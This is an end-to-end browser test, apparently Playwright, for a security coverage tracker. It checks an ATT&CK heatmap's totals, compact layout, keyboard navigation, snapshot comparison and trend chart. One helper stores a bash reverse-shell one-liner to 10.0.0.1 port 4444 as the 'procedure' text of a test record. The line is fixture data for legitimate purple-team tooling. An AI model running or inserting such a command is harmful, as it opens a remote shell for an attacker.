// Coverage in the browser: the heatmap's totals agree with its cells, its
// compact mode fits 1440 px, its skip link and arrow keys work, the trend
// has dated axes, and the snapshot comparison page shows a change. Runs
// signed in as an admin, after at least one completed test on T1003.001.

/** Calls the API from the page, with its session and CSRF token. */
async function call(page, method, path, body, headers = {}) {
  return page.evaluate(
    async ({ method, path, body, headers }) => {
      const csrf = document.cookie
        .split("; ")
        .find((c) => c.startsWith("aegis_csrf="))
        ?.slice("aegis_csrf=".length);
      const response = await fetch(path, {
        method,
        headers: { "Content-Type": "application/json", "X-CSRF-Token": decodeURIComponent(csrf ?? ""), ...headers },
        body: body === undefined ? undefined : JSON.stringify(body),
      });
      return { status: response.status, body: await response.json().catch(() => null) };
    },
    { method, path, body, headers },
  );
}

/** A test on `technique` completed with detection `outcome`, through the API. */
async function completeTest(page, technique, outcome, fail) {
  const created = await call(page, "POST", "/api/v1/tests", {
    name: `${technique} e2e ${outcome}`,
    technique_id: technique,
    procedure: "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
    executed_at: "2026-11-01T11:00:00Z",
    attack_outcome: "succeeded",
  });
  if (created.status !== 201) fail(`creating a test answered ${created.status}`);
  const id = created.body.id;
  await call(page, "POST", `/api/v1/tests/${id}/start-execution`, {});
  const submitted = await call(page, "POST", `/api/v1/tests/${id}/submit-to-blue`, {});
  const patched = await call(page, "PATCH", `/api/v1/tests/${id}`, { detection_outcome: outcome }, { "If-Match": `"${submitted.body.version}"` });
  if (patched.status !== 200) fail(`the blue half answered ${patched.status}`);
  const done = await call(page, "POST", `/api/v1/tests/${id}/complete`, {});
  if (done.status !== 200) fail(`completing answered ${done.status}`);
}

export async function checkCoverage({ page, base, shot }) {
  let step = "coverage";
  const expect = (condition, message) => {
    if (!condition) throw new Error(`${step}: ${message}`);
  };
  const fail = (message) => expect(false, message);
  const setCompact = async (on) => {
    const box = page.getByTestId("heatmap-compact");
    if ((await box.isChecked()) !== on) await box.click();
  };

  step = "the heatmap's tactic totals count its cells";
  await page.goto(`${base}/`);
  const matrix = page.getByTestId("matrix");
  await matrix.waitFor();
  await setCompact(false);
  const columns = await matrix.locator("[data-tactic]").evaluateAll((nodes) =>
    nodes.map((column) => {
      const totals = {};
      for (const count of column.querySelectorAll("[data-count]")) totals[count.dataset.count] = Number(count.textContent.match(/\d+/)[0]);
      const cells = { covered: 0, partial: 0, gap: 0, untested: 0 };
      for (const cell of column.querySelectorAll('[data-cell="true"]')) cells[cell.dataset.status] += 1;
      return { tactic: column.dataset.tactic, totals, cells };
    }),
  );
  expect(columns.length > 0, "the heatmap has columns");
  for (const { tactic, totals, cells } of columns) {
    expect(JSON.stringify(totals) === JSON.stringify(cells), `${tactic}: totals ${JSON.stringify(totals)} but cells ${JSON.stringify(cells)}`);
  }
  // T1003.001 was detected: its parent's cell takes that standing too.
  expect((await matrix.locator('[data-cell="true"][data-technique="T1003"]').first().getAttribute("data-status")) === "covered", "T1003 is covered through T1003.001");
  const credential = columns.find((c) => c.tactic === "credential-access");
  expect(credential?.totals.covered >= 1, "the credential-access header counts the covered cell");

  step = "compact mode fits 1440 px and is remembered";
  await setCompact(true);
  await page.waitForFunction(() => document.querySelector('[data-testid="matrix"]')?.dataset.compact === "true");
  const fits = () =>
    page.evaluate(() => {
      const grid = document.querySelector('[data-testid="matrix"]');
      const last = grid.lastElementChild.getBoundingClientRect();
      return {
        page: document.documentElement.scrollWidth <= window.innerWidth,
        grid: grid.scrollWidth <= grid.clientWidth + 1 && grid.parentElement.scrollWidth <= grid.parentElement.clientWidth + 1,
        lastVisible: last.right <= window.innerWidth,
        width: window.innerWidth,
      };
    });
  let fit = await fits();
  expect(fit.width === 1440, `the viewport is 1440 px wide, not ${fit.width}`);
  expect(fit.page && fit.grid && fit.lastVisible, `no horizontal scroll in compact mode: ${JSON.stringify(fit)}`);
  await shot("16-heatmap-compact");
  await page.reload();
  await matrix.waitFor();
  expect(await page.getByTestId("heatmap-compact").isChecked(), "compact mode is remembered");
  fit = await fits();
  expect(fit.page && fit.grid && fit.lastVisible, `still fits after a reload: ${JSON.stringify(fit)}`);

  step = "the skip link moves focus past the grid";
  const focused = () => page.evaluate(() => ({ testid: document.activeElement?.dataset.testid, pos: document.activeElement?.dataset.pos, inGrid: Boolean(document.activeElement?.closest('[data-testid="matrix"]')) }));
  await page.getByTestId("heatmap-skip").focus();
  expect(await page.getByTestId("heatmap-skip").isVisible(), "the skip link shows when focused");
  await page.keyboard.press("Enter");
  let now = await focused();
  expect(now.testid === "heatmap-end" && !now.inGrid, `focus is past the grid: ${JSON.stringify(now)}`);

  step = "the grid is one tab stop and arrow keys move between cells";
  await page.getByTestId("heatmap-skip").focus();
  await page.keyboard.press("Tab");
  now = await focused();
  const firstCell = await matrix.locator("[data-pos]").first().getAttribute("data-pos");
  expect(now.inGrid && now.pos === firstCell, `Tab enters the grid at its first cell ${firstCell}: ${JSON.stringify(now)}`);
  const col = Number(firstCell.split(":")[0]);
  const below = `${col}:1`;
  await page.keyboard.press("ArrowDown");
  expect((await focused()).pos === below, `ArrowDown moves down the column to ${below}`);
  await page.keyboard.press("ArrowRight");
  now = await focused();
  expect(now.inGrid && Number(now.pos?.split(":")[0]) > col, `ArrowRight moves to a later tactic: ${JSON.stringify(now)}`);
  const here = now.pos;
  await page.keyboard.press("ArrowLeft");
  expect((await focused()).pos === below, "ArrowLeft comes back");
  await page.keyboard.press("Tab");
  now = await focused();
  expect(!now.inGrid, `one Tab leaves the grid: ${JSON.stringify(now)}`);
  await page.keyboard.press("Shift+Tab");
  expect((await focused()).pos === below, "Shift+Tab returns to the cell last focused");
  await page.keyboard.press("ArrowRight");
  expect((await focused()).pos === here, "the same move again");
  const target = await page.evaluate(() => document.activeElement.dataset.technique);
  await page.keyboard.press("Enter");
  await page.waitForURL(new RegExp(`/techniques/${target}$`));
  await page.goBack();
  await matrix.waitFor();
  await setCompact(false);

  step = "the snapshot comparison shows what changed";
  const first = await call(page, "POST", "/api/v1/coverage/snapshots", {});
  expect(first.status === 201, `snapshot answered ${first.status}`);
  await completeTest(page, "T1059.004", "not_detected", fail);
  const second = await call(page, "POST", "/api/v1/coverage/snapshots", {});
  expect(second.status === 201, `snapshot answered ${second.status}`);
  await page.goto(`${base}/`);
  await page.getByRole("link", { name: "Compare two snapshots" }).click();
  await page.waitForURL(/\/coverage\/compare/);
  await page.getByRole("heading", { level: 1, name: "Compare coverage snapshots" }).waitFor();
  await page.goto(`${base}/coverage/compare?from=${first.body.id}&to=${second.body.id}`);
  const changed = page.getByTestId("diff-changed");
  await changed.waitFor();
  const row = changed.locator('[data-technique="T1059.004"]');
  await row.waitFor();
  const text = await row.textContent();
  expect(/Untested/i.test(text) && /Gap/i.test(text), `T1059.004 went from untested to gap: ${text}`);
  expect((await changed.locator('[data-technique="T1059"]').count()) === 1, "its parent changed with it");
  expect((await page.locator('[data-kpi-change="techniques_gap"]').textContent()) === "+1", "one more technique with a gap");
  await shot("17-snapshot-compare");

  step = "the trend has dated axes";
  await page.goto(`${base}/`);
  const trend = page.getByTestId("trend");
  await trend.waitFor();
  const dates = await trend.locator('[data-axis="date"] text').allTextContents();
  expect(dates.length === 5 && dates.every((d) => /\d/.test(d)), `date labels on the time axis: ${JSON.stringify(dates)}`);
  expect((await trend.getByText("% of techniques covered").count()) === 1, "the percent axis is labelled");
  expect((await trend.getByText("100%").count()) === 1, "the percent axis has its scale");
}
